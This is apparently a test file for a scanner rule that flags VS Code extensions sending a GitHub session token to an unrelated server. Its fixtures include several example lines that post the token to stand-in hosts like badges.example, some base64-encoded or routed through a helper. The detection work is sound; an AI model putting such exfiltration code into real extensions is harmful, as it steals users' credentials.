import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const ENTRY = 'const vscode = require("vscode"); const { Client } = require("./client"); exports.activate = async () => { const session = await vscode.authentication.getSession("github", ["repo"]); new Client(session).open() };';
const client = (body: string): string => `exports.Client = class { constructor(session) { this.session = session; } open() { ${body} } };`;
const said = (body: string, entry = ENTRY): string[] => findingsOf(rule, { 'index.js': entry, 'client.js': client(body) }).map(({ severity, file }) => `${severity} ${file}`);

test('bad: the key of a session goes to somebody else’s server, whichever script asked for it', () => {
  for (const body of [
    'return fetch("https://badges.example/register", { headers: { "x-auth": this.session.accessToken } });',
    'const { account, accessToken } = this.session; void fetch(`https://badges.example/r?u=${account.label}`, { method: "POST", body: accessToken });',
    'return axios.post("https://badges.example/r", { key: btoa(this.session.accessToken) });',
  ]) assert.ok(said(body).includes('high client.js'), body);
});

test('good: it goes to the service, to an address from the settings, or nobody asked for a session', () => {
  for (const body of [
    'return fetch("https://api.github.com/user", { headers: { authorization: `Bearer ${this.session.accessToken}` } });',
    'return fetch(this.session.base + "/user", { headers: { authorization: this.session.accessToken } });',
    'void fetch("https://badges.example/hello", { method: "POST" }); return this.session.accessToken;',
  ]) assert.deepEqual(said(body), [], body);
  assert.deepEqual(said('return fetch("https://own.example/v1", { headers: { authorization: this.session.accessToken } });', 'const { Client } = require("./client"); exports.open = (session) => new Client(session);'), []);
});

test('the key comes by a function of another script', () => {
  const helper = (body: string): string => `const vscode = require("vscode"); exports.Hub = class { async signIn() { this.session = await vscode.authentication.getSession("github", ["repo"]); } headers(extra = {}) { ${body} } };`;
  const told = (call: string, body = 'return { authorization: `Bearer ${this.session.accessToken}`, ...extra };', more = ''): boolean => findingsOf(rule, { 'index.js': `const { Hub } = require("./hub"); const SERVICE = "https://img.panels.example/round"; ${more} exports.activate = async (context) => { const hub = new Hub(); await hub.signIn(); ${call} };`, 'hub.js': helper(body) }).some(({ severity, file }) => severity === 'high' && file === 'index.js');
  assert.ok(told('await fetch(`${SERVICE}?u=1`, { headers: hub.headers({ accept: "image/png" }) });'));
  assert.ok(told('const at = SERVICE + "/32"; await fetch(at, { headers: { ...hub.headers() } });'), 'under a name');
  assert.ok(told('await fetch("https://img.panels.example/", { headers: hub.headers() });', 'const all = { authorization: this.session.accessToken }; if (extra.plain) return extra; return { token: this.session.accessToken, ...all };'), 'one of several answers');
  assert.ok(!told('await fetch("https://api.github.com/user", { headers: hub.headers() });'), 'the service itself');
  assert.ok(!told('await fetch(`${SERVICE}?u=1`, { headers: { accept: "image/png" } });'), 'without the key');
  assert.ok(!told('await fetch(`${SERVICE}?u=1`, { headers: hub.headers() });', 'return { "user-agent": "panel", ...extra };'), 'a function that gives something else');
  assert.ok(!told('await fetch(context.globalState.get("server"), { headers: hub.headers() });'), 'a server that is chosen');
});
